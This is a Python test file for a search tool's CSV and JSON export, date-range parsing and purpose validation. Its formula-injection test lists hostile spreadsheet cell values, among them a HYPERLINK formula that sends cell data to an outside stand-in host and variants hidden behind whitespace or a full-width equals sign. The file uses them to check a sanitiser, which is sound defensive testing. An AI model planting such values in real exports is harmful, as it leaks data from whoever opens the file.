"""What a search prints: a table, CSV that runs nothing, and one JSON document."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from datetime import datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fingerpost.audit.search import Tally, Unread
from fingerpost.membership.search_commands import (
    period,
    plain_cell,
    purpose_named,
    write_csv,
    write_json,
)
from fingerpost.protocol.errors import Defect
from fingerpost.protocol.ids import AgencyId

OAK = AgencyId("e99000001.oak")
cells = st.text(max_size=12)


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://example.org/?"&A1,"x")',
        "+1+1",
        "-2",
        "@SUM(1)",
        " =1",
        "\t=1",
        "\r=1",
        "\u00a0=1",
        "\uff1d1",
    ],
)
def test_no_cell_is_a_formula(name: str) -> None:
    """Attack: a requester gives a child a name that a spreadsheet runs."""
    found = plain_cell(name)
    assert found[0] not in "=+-@\t\r\uff1d"
    assert found.lstrip()[0] not in "=+-@\uff1d"


@pytest.mark.parametrize("name", ["Jo", "O'Neill", "a=b", "2017-03-09", "", " ", "943 476 5919"])
def test_what_is_no_formula_stays_as_it_is(name: str) -> None:
    assert plain_cell(name) == name


@given(st.lists(st.tuples(cells, cells, cells), max_size=5))
def test_csv_has_one_line_a_lookup_and_its_cells(rows: list[tuple[str, str, str]]) -> None:
    stream = io.StringIO()
    write_csv(stream, ("one", "two", "three"), rows)
    text = stream.getvalue()
    assert text.startswith("\ufeffone,two,three\r\n")
    assert text.count("\n") == len(rows) + 1
    read = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert read[1:] == [[plain_cell(cell) for cell in row] for row in rows]


@given(st.lists(st.tuples(cells, cells), max_size=5))
def test_json_is_one_document_with_one_line_a_lookup(rows: list[tuple[str, str]]) -> None:
    stream = io.StringIO()
    tally = Tally(len(rows), Counter({Unread.FORGOTTEN: 2}) if rows else Counter())
    write_json(stream, OAK, ("name", "child"), rows, tally)
    text = stream.getvalue()
    found = json.loads(text)
    assert found == {
        "version": 1,
        "agency": str(OAK),
        "lookups": [{"name": name, "child": child} for name, child in rows],
        "found": len(rows),
        "complete": not rows,
        "not_searched": {"forgotten": 2} if rows else {},
    }
    assert text.count("\n") == len(rows) + 2
    assert all(c.isprintable() or c == "\n" for c in text)


def test_a_day_is_from_midnight_to_midnight_utc() -> None:
    day = datetime(2026, 3, 1)  # noqa: DTZ001 - as it is typed
    assert period(None, None, day) == (1_772_323_200, 1_772_409_600)
    assert period(day, None, None)[0] == 1_772_323_200
    with pytest.raises(Defect, match="--day"):
        period(day, None, day)
    with pytest.raises(Defect, match="--until"):
        period(day, day, None)


def test_a_purpose_is_one_of_the_list() -> None:
    assert purpose_named("s47-enquiry") == "S47_ENQUIRY"
    assert purpose_named(None) == ""
    with pytest.raises(Defect, match="--purpose: expected one of S47_ENQUIRY"):
        purpose_named("curiosity")
